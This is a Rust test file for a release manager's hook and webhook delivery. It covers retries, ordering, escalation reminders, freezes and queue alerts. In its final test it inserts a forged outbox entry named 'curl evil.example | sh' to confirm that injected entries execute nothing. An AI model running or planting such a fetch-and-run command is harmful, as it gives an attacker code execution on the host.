//! Is everybody told of what they want to hear of, at least once, and of nothing twice without the same id?

use std::time::Duration;

use relman::domain::approval::Verdict;
use relman::domain::deployment::DeploymentState;
use relman::domain::event::Event;
use relman::domain::hook::DeliveryState;
use relman::ops::hook::deliver::{self, Parcel};
use relman::ops::hook::{moments, show, sort, subscribe};
use relman::ops::release::block;

use relman::ops::release::record::{Record, record};

use crate::support::world::{POLICY, World, env_name, release_id, wish};

const API: &str = "api@1.0.0";

/// The ordinary rules with these hooks, which are known to the store.
fn told(hooks: &str) -> World {
    told_with(POLICY, hooks)
}

fn told_with(policy: &str, hooks: &str) -> World {
    let world = World::with(&format!("{policy}\n[hooks]\n{hooks}\n"));
    world.as_("root", subscribe).unwrap();
    world
}

fn sorted(world: &World) -> bool {
    world.as_("root", sort).unwrap()
}

fn take(world: &World, who: &str) -> Option<Parcel> {
    world.as_("root", |cx| deliver::take(cx, who)).unwrap()
}

/// Tells everything that is due; returns the names of the events, oldest first, each with its hook.
fn carried(world: &World) -> Vec<String> {
    sorted(world);
    let before = world.machine.outside.told.borrow().len();
    while let Some(parcel) = take(world, "courier") {
        let told = world.as_("root", |cx| deliver::tell(cx, &parcel));
        world.as_("root", |cx| deliver::record(cx, &parcel, &told)).unwrap();
    }
    let told = world.machine.outside.told.borrow();
    told[before..].iter().map(|(hook, event, _)| format!("{hook} {}", event.name)).collect()
}

fn last(world: &World) -> Event {
    world.machine.outside.told.borrow().last().unwrap().1.clone()
}

#[test]
fn a_hook_hears_of_what_fits_its_pattern_and_of_nothing_that_was_before_it() {
    let world = World::with(&format!("{POLICY}\n[hooks]\n\"release.*\" = [[\"./a\"]]\n"));
    world.release(API);
    world.as_("root", subscribe).unwrap();
    assert!(!sorted(&world), "what was before it is no news");
    world.release("web@1.0.0");
    world.approve("bob", API, "production");
    assert_eq!(carried(&world), ["release.*[0] release.created"]);
    assert_eq!(last(&world).text, "alice registered web@1.0.0");
    assert_eq!(carried(&world), [] as [&str; 0], "nothing is told twice");
}

#[test]
fn a_deployment_is_told_from_its_start_to_its_end_once_each() {
    let world = told("\"deployment.*\" = [[\"./a\"]]\n\"deployment.failed\" = [[\"./b\"]]");
    world.release(API);
    world.advance(API, 2);
    world.deploy(API, "dev");
    let failed = world.running(API, "dev");
    world.end(&failed, DeploymentState::Failed);
    assert_eq!(
        carried(&world),
        [
            "deployment.*[0] deployment.started",
            "deployment.*[0] deployment.succeeded",
            "deployment.*[0] deployment.started",
            "deployment.*[0] deployment.failed",
            "deployment.failed[0] deployment.failed",
        ]
    );
    let event = last(&world);
    assert_eq!(event.also, ["deployment.finished"]);
    assert_eq!(
        event.text,
        "#2 (api@1.0.0 to dev, by erin) failed in deploy: the script ended with exit status 3"
    );
    assert_eq!((event.service.as_deref(), event.environment.as_deref()), (Some("api"), Some("dev")));
    let (seq, hash) = world.store.read(relman::store::journal::head).unwrap();
    let hash = relman::domain::digest::hex(&hash);
    assert!(event.checkpoint.seq <= seq && event.checkpoint.hash.len() == hash.len());
}

#[test]
fn a_refusal_is_told_with_the_gates_that_were_closed() {
    let world = told("\"deployment.refused\" = [[\"./a\"]]\n\"override.used\" = [[\"./a\"]]");
    world.release(API);
    world.advance(API, 2);
    world.start("erin", API, "staging").unwrap_err();
    assert_eq!(carried(&world), ["deployment.refused[0] deployment.refused"]);
    let event = last(&world);
    assert_eq!(
        (event.gates.as_slice(), event.environment.as_deref()),
        (&["order".to_owned()][..], Some("staging"))
    );
    assert!(
        event.text.starts_with("erin could not start api@1.0.0 → staging: staging is closed"),
        "{}",
        event.text
    );
}

#[test]
fn what_is_turned_down_at_its_time_was_refused() {
    let mut world = told("\"deployment.refused\" = [[\"./a\"]]\n\"deployment.finished\" = [[\"./b\"]]");
    world.release(API);
    world.advance(API, 5);
    let d = world.schedule(API, "dev", Duration::from_hours(1));
    world.pass(Duration::from_hours(1));
    *world.machine.script.borrow_mut() = "two".to_owned();
    drop(world.turn(d.id));
    assert_eq!(
        carried(&world),
        ["deployment.finished[0] deployment.refused", "deployment.refused[0] deployment.refused"]
    );
}

#[test]
fn a_gate_that_was_gone_past_is_told_beside_the_start() {
    use relman::domain::gate::GateId;
    use relman::ops::deployment::start::{self, StartDeploy};
    let policy = POLICY.replace("kind = \"staging\"", "kind = \"staging\"\noverride = [\"managers\"]");
    let world = told_with(&policy, "\"*\" = [[\"./a\"]]");
    world.release(API);
    world.advance(API, 2);
    drop(carried(&world));
    let wanted = StartDeploy {
        overrides: [GateId::Order].into(),
        reason: Some("urgent".to_owned()),
        ..wish(API, "staging")
    };
    world.as_("bob", |cx| start::start(cx, &wanted)).unwrap();
    assert_eq!(carried(&world), ["*[0] deployment.started", "*[0] override.used"]);
    assert_eq!(last(&world).text, "bob went past the order gate with #1: api@1.0.0 to staging: urgent");
}

#[test]
fn services_and_environments_are_a_matter_of_the_webhook() {
    let world = told(
        "webhook = { url = \"https://x.example\", services = [\"web\"], environments = [\"prod*\"], events = [\"*\"] }",
    );
    world.release(API);
    world.release("web@1.0.0");
    world.approve("bob", API, "production");
    world.approve("bob", "web@1.0.0", "production");
    world.freeze("Incident", "dev", world.now, world.now.plus(Duration::from_hours(1)));
    // What is about no service or environment in particular concerns everybody.
    assert_eq!(
        carried(&world),
        ["release.created", "approval.granted", "freeze.added", "freeze.began"]
            .map(|name| format!("webhook {name}"))
    );
}

#[test]
fn a_program_hears_of_some_services_and_environments_only_where_that_is_said() {
    let world = told(
        "\"*\" = [{ command = [\"./a\"], services = [\"web\"], environments = [\"prod*\"] }]\n\
         \"release.created\" = [[\"./b\"], { command = [\"./c\"], services = [\"api\"] }]",
    );
    world.release(API);
    world.release("web@1.0.0");
    world.approve("bob", API, "production");
    world.approve("bob", "web@1.0.0", "production");
    let mut all = carried(&world);
    all.sort();
    assert_eq!(
        all,
        [
            "*[0] approval.granted",
            "*[0] release.created",
            "release.created[0] release.created",
            "release.created[0] release.created",
            "release.created[1] release.created",
        ]
    );
    assert_eq!(last(&world).service.as_deref(), Some("api"));
}

#[test]
fn a_program_is_asked_before_deployments_of_its_services_and_environments_only() {
    let world = told(
        "pre-deploy = [[\"./a\"], { command = [\"./b\"], environments = [\"prod*\"] }, { command = [\"./c\"], services = [\"web\"] }]",
    );
    world.release(API);
    world.release("web@1.0.0");
    let asked = |id: &str, env: &str| {
        let preview = |cx: &relman::ops::Ctx<'_>| {
            relman::ops::deployment::start::preview(cx, &release_id(id), &env_name(env)).unwrap()
        };
        let steps = world.as_("erin", preview).steps;
        let hooks = steps.into_iter().filter(|step| step.name.starts_with("pre-deploy"));
        hooks.map(|step| step.name).collect::<Vec<_>>()
    };
    assert_eq!(asked(API, "dev"), ["pre-deploy"]);
    assert_eq!(asked(API, "production"), ["pre-deploy", "pre-deploy 2"]);
    assert_eq!(asked("web@1.0.0", "production"), ["pre-deploy", "pre-deploy 2", "pre-deploy 3"]);
    assert_eq!(asked("web@1.0.0", "staging"), ["pre-deploy", "pre-deploy 3"]);
}

/// With a delivery that nobody will try again by itself.
pub(super) fn given_up() -> World {
    let mut world = told("\"release.*\" = [[\"./a\"]]");
    *world.machine.outside.hears.borrow_mut() = false;
    world.release(API);
    while world.as_("bob", show::given_up).unwrap().is_empty() {
        drop(carried(&world));
        world.pass(Duration::from_hours(4));
    }
    world
}

#[test]
fn what_cannot_be_told_is_tried_again_later_and_later_and_then_given_up_for_all_to_see() {
    let mut world = told("\"release.*\" = [[\"./a\"]]");
    *world.machine.outside.hears.borrow_mut() = false;
    world.release(API);
    let id = |world: &World| world.machine.outside.told.borrow().last().unwrap().1.id.clone();
    assert_eq!(carried(&world).len(), 1);
    let first = id(&world);
    assert_eq!(carried(&world).len(), 0, "not at once");
    let mut attempts = 1;
    for _ in 0..200 {
        world.pass(Duration::from_mins(15));
        attempts += carried(&world).len();
    }
    assert_eq!(attempts, 10);
    assert_eq!(id(&world), first, "the same event has the same id");
    let tried: Vec<u32> = world.machine.outside.told.borrow().iter().map(|told| told.2).collect();
    assert_eq!(tried, (1..=10).collect::<Vec<u32>>());
    let given_up = world.as_("bob", show::given_up).unwrap();
    assert_eq!(given_up.len(), 1);
    assert_eq!(given_up[0].outcome.as_deref(), Some("500 (by root on bastion)"));
    assert_eq!(given_up[0].said.as_deref(), Some("␛[31mhm"), "what it said changes no terminal");
    let hooks = world.as_("bob", show::hooks).unwrap();
    assert_eq!((hooks[0].given_up, hooks[0].pending), (1, 0));

    *world.machine.outside.hears.borrow_mut() = true;
    assert_eq!(world.as_("bob", |cx| show::retry(cx, None)).unwrap(), 1);
    assert_eq!(carried(&world), ["release.*[0] release.created"]);
    let (delivery, event) = world.as_("bob", |cx| show::delivery(cx, given_up[0].id)).unwrap();
    assert_eq!((delivery.state, event.unwrap().id), (DeliveryState::Delivered, first));
}

#[test]
fn the_end_of_a_deployment_is_not_told_before_its_beginning() {
    let mut world = told("\"deployment.*\" = [[\"./a\"]]");
    world.release(API);
    world.advance(API, 2);
    let first = world.running(API, "dev");
    *world.machine.outside.hears.borrow_mut() = false;
    assert_eq!(carried(&world), ["deployment.*[0] deployment.started"]);
    *world.machine.outside.hears.borrow_mut() = true;
    world.end(&first, DeploymentState::Failed);
    let second = world.running(API, "dev");
    // Another deployment waits for nobody.
    assert_eq!(carried(&world), ["deployment.*[0] deployment.started"]);
    assert_eq!(last(&world).subject, second.id.to_string());
    let due = world.as_("root", deliver::next_due).unwrap().unwrap();
    assert!(due > world.now, "what is held back is nothing to hurry for");
    assert!(!sorted(&world), "and nothing to send anybody for");
    world.pass(due.since(world.now));
    assert_eq!(
        carried(&world),
        ["deployment.*[0] deployment.started", "deployment.*[0] deployment.failed"],
        "both in their order"
    );
}

#[test]
fn what_was_held_back_for_days_is_told_and_not_given_up() {
    let mut world = told("\"deployment.*\" = [[\"./a\"]]");
    world.release(API);
    world.advance(API, 2);
    *world.machine.outside.hears.borrow_mut() = false;
    let d = world.running(API, "dev");
    assert_eq!(carried(&world), ["deployment.*[0] deployment.started"]);
    world.end(&d, DeploymentState::Failed);
    sorted(&world);
    // Nobody was there for two days.
    world.pass(Duration::from_hours(48));
    *world.machine.outside.hears.borrow_mut() = true;
    assert_eq!(carried(&world), ["deployment.*[0] deployment.started", "deployment.*[0] deployment.failed"]);
}

#[test]
fn who_dies_while_telling_leaves_it_to_another_one_who_sends_the_same_again() {
    let mut world = told("\"release.*\" = [[\"./a\"]]");
    world.release(API);
    sorted(&world);
    let first = take(&world, "one").unwrap();
    assert!(take(&world, "two").is_none(), "two do not tell it at once");
    // Told, and gone before it could be recorded.
    drop(world.as_("root", |cx| deliver::tell(cx, &first)));
    world.pass(Duration::from_mins(2));
    let second = take(&world, "two").unwrap();
    assert_eq!((second.event.id.clone(), second.delivery.attempts), (first.event.id.clone(), 2));
    let told = world.as_("root", |cx| deliver::tell(cx, &second));
    // The first one comes back and says that it failed: it is not his any more.
    let failed = relman::ops::outside::Told { delivered: false, outcome: "late".to_owned(), said: None };
    world.as_("root", |cx| deliver::record(cx, &first, &failed)).unwrap();
    world.as_("root", |cx| deliver::record(cx, &second, &told)).unwrap();
    let all = world.as_("root", |cx| show::deliveries(cx, 9)).unwrap();
    assert_eq!((all.len(), all[0].state), (1, DeliveryState::Delivered));
}

#[test]
fn what_needs_a_token_is_left_to_who_has_it() {
    let mut world = told("\"release.*\" = [[\"./a\"]]");
    *world.machine.outside.lacks.borrow_mut() = Some("the variable TOKEN is not set here".to_owned());
    world.release(API);
    assert!(sorted(&world));
    assert!(take(&world, "courier").is_none());
    let hooks = world.as_("bob", show::hooks).unwrap();
    assert_eq!((hooks[0].pending, hooks[0].lacks.is_some()), (1, true));
    *world.machine.outside.lacks.borrow_mut() = None;
    assert_eq!(carried(&world).len(), 1);
    // Nobody ever comes by who has it: that is given up, and shown.
    world.release("web@1.0.0");
    *world.machine.outside.lacks.borrow_mut() = Some("the variable TOKEN is not set here".to_owned());
    sorted(&world);
    world.pass(Duration::from_hours(25));
    sorted(&world);
    let why = world.as_("bob", show::given_up).unwrap()[0].outcome.clone().unwrap();
    assert_eq!(why, "nobody who could tell it was there for 1d");
}

#[test]
fn old_news_is_counted_and_not_sent() {
    let mut world = told("\"release.*\" = [[\"./a\"]]");
    world.release(API);
    world.pass(Duration::from_hours(25));
    world.release("web@1.0.0");
    assert_eq!(carried(&world), ["release.*[0] release.created"]);
    assert_eq!(last(&world).service.as_deref(), Some("web"));
    assert_eq!(world.as_("bob", show::hooks).unwrap()[0].passed_over, 1);
}

#[test]
fn long_journals_are_sorted_out_to_their_end() {
    let world = told("\"release.blocked\" = [[\"./a\"]]");
    world.release(API);
    for _ in 0..150 {
        world.as_("bob", |cx| block::block(cx, &release_id(API), "leaks")).unwrap();
        world.as_("bob", |cx| block::unblock(cx, &release_id(API), "fine")).unwrap();
    }
    assert_eq!(carried(&world).len(), 150);
}

#[test]
fn without_hooks_nothing_is_written() {
    let world = World::new();
    world.freeze("Incident", "dev", world.now, world.now.plus(Duration::from_hours(1)));
    let ((), entries) = world.journaled(|| assert!(!sorted(&world)));
    assert!(entries.is_empty(), "{entries:?}");
    assert!(world.store.read(relman::store::outbox::cursors).unwrap().is_empty());
}

#[test]
fn a_freeze_that_begins_and_ends_is_told_once_whoever_looks() {
    let mut world = told("\"freeze.*\" = [[\"./a\"]]");
    let start = world.now.plus(Duration::from_hours(1));
    let freeze = world.freeze("Year end", "production", start, start.plus(Duration::from_hours(2)));
    assert_eq!(carried(&world), ["freeze.*[0] freeze.added"]);
    for _ in 0..20 {
        world.pass(Duration::from_mins(10));
        world.as_("bob", moments::notice).unwrap();
        world.as_("erin", moments::notice).unwrap();
    }
    assert_eq!(carried(&world), ["freeze.*[0] freeze.began", "freeze.*[0] freeze.ended"]);
    assert_eq!(last(&world).subject, freeze.handle());
    assert!(
        last(&world).text.starts_with("\"Year end\" is over: production is open again"),
        "{:?}",
        last(&world)
    );
}

#[test]
fn a_milestone_that_is_late_is_told_once_and_again_when_its_new_day_is_past() {
    let mut world = told("\"milestone.late\" = [[\"./a\"]]");
    world.release("api@1.0.0");
    let due = |world: &World, hours: u64| {
        let due = world.now.plus(Duration::from_hours(hours));
        let what = Record::Milestone { name: "code complete".to_owned(), due };
        world.as_("alice", |cx| record(cx, &release_id("api@1.0.0"), &what)).unwrap();
    };
    due(&world, 1);
    for _ in 0..5 {
        world.pass(Duration::from_mins(30));
        world.as_("bob", moments::notice).unwrap();
    }
    assert_eq!(carried(&world), ["milestone.late[0] milestone.late"]);
    assert!(
        last(&world).text.starts_with("a milestone of api@1.0.0 is late: code complete was due "),
        "{:?}",
        last(&world)
    );
    due(&world, 1);
    world.as_("bob", moments::notice).unwrap();
    assert_eq!(carried(&world), [] as [&str; 0]);
    world.pass(Duration::from_hours(2));
    world.as_("bob", moments::notice).unwrap();
    assert_eq!(carried(&world), ["milestone.late[0] milestone.late"]);
}

/// A release that waits for the managers and sre in production.
fn asked(hooks: &str) -> World {
    let policy = POLICY.replace(
        "kind = \"production\"",
        "kind = \"production\"\nremind-every = \"30m\"\nescalate-after = \"2h\"\nescalate-to = [\"managers\"]",
    );
    let mut world = told_with(&policy, hooks);
    world.release(API);
    world.advance(API, 5);
    world.deploy(API, "dev");
    world.deploy(API, "staging");
    world.pass(Duration::from_hours(1));
    drop(carried(&world));
    world.machine.outside.told.borrow_mut().clear();
    world
}

#[test]
fn a_decision_that_is_open_is_told_once_and_brought_to_mind_until_it_is_made() {
    let mut world = asked("\"approval.*\" = [[\"./a\"]]\n\"deployment.lost\" = [[\"./b\"]]");
    let entries = world.store.read(|tx| relman::store::journal::list(tx, None, None, 3)).unwrap();
    assert_eq!(entries[0].verb, "approval.requested");
    let mut heard = Vec::new();
    for minute in 1..=180 {
        world.pass(Duration::from_mins(1));
        for name in carried(&world) {
            heard.push(format!("{minute} {}", name.rsplit(' ').next().unwrap()));
        }
    }
    assert_eq!(
        heard,
        [
            "30 approval.reminder",
            "60 approval.reminder",
            "90 approval.reminder",
            "120 approval.reminder",
            "120 approval.escalated",
            "150 approval.reminder",
            "180 approval.reminder"
        ]
    );
    let told = world.machine.outside.told.borrow();
    let escalated = &told.iter().find(|told| told.1.name == "approval.escalated").unwrap().1;
    assert!(escalated.text.contains("for too long: for 2h: 0 of 1 from managers"), "{}", escalated.text);
    assert!(escalated.text.ends_with("told to managers"), "{}", escalated.text);
    assert_eq!(escalated.environment.as_deref(), Some("production"));
    assert_eq!(escalated.data["after"]["people"], serde_json::json!(["bob", "carol"]));
    drop(told);
    world.approve("bob", API, "production");
    world.approve("dave", API, "production");
    drop(carried(&world));
    world.pass(Duration::from_hours(3));
    assert_eq!(carried(&world), [] as [&str; 0], "what is decided is nobody's trouble any more");
}

#[test]
fn who_it_was_escalated_to_stands_in_the_queue() {
    use relman::ops::view::{board, queue};
    let mut world = asked("\"deployment.lost\" = [[\"./b\"]]");
    let waits = |world: &World| {
        world.as_("bob", |cx| queue::queue(cx, &board::board(cx).unwrap())).unwrap().remove(0)
    };
    assert_eq!(waits(&world).escalated, None);
    world.pass(Duration::from_hours(2));
    sorted(&world);
    assert_eq!(waits(&world).escalated, Some((world.now, vec!["managers".to_owned()])));
}

#[test]
fn an_approval_that_expires_is_told_and_the_decision_is_open_again() {
    let mut world = asked("\"approval.expired\" = [[\"./a\"]]");
    world.approve("bob", API, "production");
    world.approve("dave", API, "production");
    world.pass(Duration::from_hours(8));
    assert_eq!(carried(&world), ["approval.expired[0] approval.expired"; 2]);
    assert!(last(&world).text.contains("that of dave counted until"), "{}", last(&world).text);
    assert_eq!(carried(&world), [] as [&str; 0]);
}

#[test]
fn a_rejection_ends_the_reminders() {
    let mut world = asked("\"approval.*\" = [[\"./a\"]]");
    world.decide("bob", API, Some("production"), Verdict::Rejected).unwrap();
    drop(carried(&world));
    world.pass(Duration::from_hours(3));
    assert_eq!(carried(&world), [] as [&str; 0]);
}

#[test]
fn a_queue_that_stands_still_is_told_once() {
    let mut world = told("queue-blocked-after = \"20m\"\n\"queue.*\" = [[\"./a\"]]");
    world.ready(API);
    world.freeze("Incident", "production", world.now, world.now.plus(Duration::from_hours(3)));
    let d = world.queue(API, "production");
    world.pass(Duration::from_mins(19));
    assert_eq!(carried(&world), [] as [&str; 0]);
    world.pass(Duration::from_mins(1));
    assert_eq!(carried(&world), ["queue.*[0] queue.blocked"]);
    assert!(
        last(&world).text.contains("#3 has waited for too long: api@1.0.0 to production waits for freeze")
    );
    world.pass(Duration::from_mins(20));
    assert_eq!(carried(&world), [] as [&str; 0]);
    assert_eq!(world.deployment(d.id).environment, env_name("production"));
}

#[test]
fn what_somebody_wrote_into_the_outbox_runs_nothing_and_tells_nothing() {
    use relman::store::outbox;
    let world = told("\"release.*\" = [[\"./a\"]]");
    world.release(API);
    let put = |hook: &str, event: &str| {
        let write =
            |tx: &relman::store::Tx<'_>| outbox::insert(tx, hook, (event, "release.created"), 1, world.now);
        assert!(world.store.write_quietly(write).unwrap());
    };
    // A hook that is not in the configuration, and an event that is not in the journal.
    put("curl evil.example | sh", "instance-1-release.created");
    put("release.*[0]", "instance-1-deployment.succeeded");
    assert_eq!(carried(&world), ["release.*[0] release.created"]);
    let given_up = world.as_("bob", show::given_up).unwrap();
    assert_eq!(given_up.len(), 1);
    assert!(given_up[0].outcome.as_ref().unwrap().starts_with("the journal holds no such event"));
    let pending = world.store.read(outbox::list_pending).unwrap();
    assert_eq!((pending.len(), pending[0].attempts), (1, 0), "nobody touches it, until it is given up");
}
